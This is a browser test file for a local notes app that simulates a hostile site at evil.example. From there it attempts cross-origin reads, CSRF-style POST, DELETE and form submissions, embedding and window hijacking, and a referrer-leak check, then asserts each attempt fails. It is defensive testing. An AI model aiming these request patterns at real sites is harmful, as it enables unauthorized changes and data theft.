/// <reference lib="dom" />
import { assert, assertEquals } from "@std/assert";
import type { BrowserContext, Page } from "playwright-core";
import { addNote, browser, browserTest, counts, open, startErth } from "./browser.ts";
import { storedNotes, until } from "./browser.ts";
import type { Erth } from "../harness.ts";

const NAMES = ["evil.example", "rebind.example"];
const RULES = `--host-resolver-rules=${NAMES.map((name) => `MAP ${name} 127.0.0.1`).join(",")}`;
const SECRET = "The key lies under the mat";

/** A page that tells its server what it learns of where one came from. */
const ELSEWHERE = "<!doctype html><title>Elsewhere</title><body><script>" +
  "fetch(`/learnt?opener=${opener}&referrer=${document.referrer}`)</script>";

/** A server of somebody else on another port of this machine, and what it was told. */
class Attacker implements AsyncDisposable {
  readonly told: string[] = [];
  readonly #server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
    this.told.push(`${request.url}\n${[...request.headers].join("\n")}`);
    const headers = { "content-type": "text/html", "access-control-allow-origin": "*" };
    return new Response(ELSEWHERE, { headers });
  });

  /** Its address by a host name that leads here. */
  at(host: string): string {
    return `http://${host}:${this.#server.addr.port}/`;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await this.#server.shutdown();
  }
}

/** An Erth with a secret and a page open on it, and the attacker's page in the same browser. */
interface Scene {
  erth: Erth;
  evil: Page;
  context: BrowserContext;
}

/** The attacker even knows the address with its secret prefix. */
function attack(name: string, run: (scene: Scene) => Promise<unknown>): void {
  for (const host of ["evil.example", "127.0.0.1"]) {
    browserTest(`${name}: ${host}, another port`, async () => {
      await using erth = await startErth();
      await using attacker = new Attacker();
      await addNote(erth, "Secret", SECRET);
      const context = await (await browser([RULES])).newContext();
      const own = await open(context, erth);
      await counts(own.locator("#list .item"), 1);
      const evil = await context.newPage();
      await evil.goto(attacker.at(host));
      await run({ erth, evil, context });
      assertEquals((await storedNotes(erth)).map(({ title }) => title), ["Secret"]);
      assertEquals((await erth.report()).sidecar.state, "ready");
      await context.close();
    });
  }
}

attack("another site reads nothing by fetch", async ({ erth, evil }) => {
  const answers = await evil.evaluate(async (url) => {
    const answers: string[] = [];
    for (const route of ["", "notes", "notes/list", "status", "status.txt", "events", "find?q="]) {
      for (const mode of ["cors", "no-cors"] as const) {
        for (const credentials of ["include", "omit"] as const) {
          const answer = await fetch(url + route, { mode, credentials })
            .then(async (it) => `${it.type} ${it.status} ${await it.text()}`, () => "refused");
          answers.push(answer.trim());
        }
      }
    }
    return answers;
  }, erth.url);
  // The resource policy refuses even what would be opaque.
  assertEquals([...new Set(answers)], ["refused"]);
});

attack("another site changes nothing by fetch, beacon or socket", async ({ erth, evil }) => {
  await erth.sidecar();
  const [{ id } = { id: "" }] = await storedNotes(erth);
  await evil.evaluate(async ([url, id]) => {
    const body = new URLSearchParams({ title: "Intruder", body: "x", tags: "" });
    const attempts: Promise<unknown>[] = [];
    for (const route of ["notes", `notes/${id}`, `notes/${id}/delete`, "shell/stop", "chat/new"]) {
      for (const mode of ["cors", "no-cors"] as const) {
        for (const credentials of ["include", "omit"] as const) {
          attempts.push(fetch(url + route, { method: "POST", body, mode, credentials }));
        }
      }
      // With headers of their own these are preflighted.
      const headers = {
        "content-type": "application/json",
        "idempotency-key": "k",
        "hx-request": "true",
      };
      attempts.push(fetch(url + route, { method: "POST", body: "{}", headers }));
      attempts.push(fetch(url + route, { method: "PUT", body: "{}", credentials: "include" }));
      attempts.push(fetch(url + route, { method: "DELETE", credentials: "include" }));
      navigator.sendBeacon(url + route, body);
    }
    attempts.push(
      new Promise((done) => {
        const socket = new WebSocket(`${url!.replace("http", "ws")}events`);
        socket.onopen = () => document.title = "socket open";
        socket.onclose = done;
      }),
    );
    await Promise.allSettled(attempts);
  }, [erth.url, id] as const);
  assertEquals(await evil.title(), "Elsewhere");
  const { body } = await erth.json<{ body: string }>(`notes/${id}`);
  assertEquals(body, SECRET);
});

attack("another site changes nothing by a form", async ({ erth, evil }) => {
  const refused = async () => (await erth.report()).log.filter(isRefusal).length;
  const types = ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"];
  for (const target of ["frame", "_blank", "_self"]) {
    for (const enctype of types) {
      const before = await refused();
      const arrived = () => until(async () => await refused() > before);
      const submit = () =>
        evil.evaluate(([url, target, enctype]) => {
          const frame = Object.assign(document.createElement("iframe"), { name: "frame" });
          const form = document.createElement("form");
          Object.assign(form, { method: "post", action: `${url}notes`, target, enctype });
          const field = document.createElement("input");
          form.append(Object.assign(field, { name: "title", value: "Intruder" }));
          document.body.append(frame, form);
          form.submit();
        }, [erth.url, target, enctype] as const);
      await submit();
      // A busy browser may swallow a popup: then it is tried once more.
      await arrived().catch(() => submit().then(arrived));
      if (target === "_self") {
        await evil.locator("[data-code]").waitFor();
        await evil.goBack();
      }
    }
  }
});

function isRefusal(line: string): boolean {
  return /gateway\.refused code=(UNAUTHORIZED|FORBIDDEN_ORIGIN) .*path=notes$/.test(line);
}

attack("another site can't embed it", async ({ erth, evil }) => {
  const outcome = await evil.evaluate(async (url) => {
    const outcomes: Record<string, string> = {};
    const load = (tag: string, attributes: Record<string, string>) =>
      new Promise<void>((done) => {
        const element = Object.assign(document.createElement(tag), attributes);
        element.onload = () =>
          done(void (outcomes[`${tag} ${Object.values(attributes)}`] = "loaded"));
        element.onerror = () => done();
        document.head.append(element);
      });
    await load("script", { src: `${url}assets/app.js` });
    await load("script", { src: `${url}notes` });
    await load("img", { src: `${url}assets/icon.svg` });
    await load("link", { rel: "stylesheet", href: `${url}assets/app.css` });
    return outcomes;
  }, erth.url);
  assertEquals(outcome, {});
  for (const route of ["", "notes", "status", "assets/icon.svg"]) {
    await evil.evaluate((src) => {
      document.body.replaceChildren(Object.assign(document.createElement("iframe"), { src }));
    }, erth.url + route);
    await until(() => evil.frames().some((frame) => frame.url().startsWith("chrome-error:")));
  }
});

attack("another site loses hold of a window that it opens", async ({ erth, evil }) => {
  for (const route of ["", "notes", "notes?q=key"]) {
    const seen = await evil.evaluate((url) => {
      const page = globalThis as unknown as { victim: Window };
      page.victim = globalThis.open(url)!;
      return page.victim.document.body.textContent;
    }, erth.url + route);
    assertEquals(seen, "");
    // The opener policy cuts the two apart as soon as the answer is there.
    await until(() =>
      evil.evaluate(() => (globalThis as unknown as { victim: Window }).victim.closed)
    );
  }
});

browserTest("a link in a note tells its site nothing", async () => {
  await using erth = await startErth();
  await using attacker = new Attacker();
  const site = attacker.at("evil.example");
  const id = await addNote(erth, "Secret", `[leave](${site}left)`);
  const context = await (await browser([RULES])).newContext();
  const own = await open(context, erth, `notes/${id}`);
  await own.locator("#view").click();
  const link = own.getByRole("link", { name: "leave", exact: true });
  await link.click();
  await until(() => attacker.told.some((told) => told.includes("/learnt")));
  assert(attacker.told.some((told) => told.includes("/learnt?opener=null&referrer=\n")));
  // Cookies go to every port of a host: also to this one, when its page is opened by number.
  const learnt = attacker.told.length;
  await own.goto(attacker.at("127.0.0.1"));
  await until(() => attacker.told.length > learnt);
  for (const told of attacker.told) {
    assert(!told.includes(new URL(erth.url).pathname) && !/erth_(?!theme)/.test(told), told);
  }
  await context.close();
});
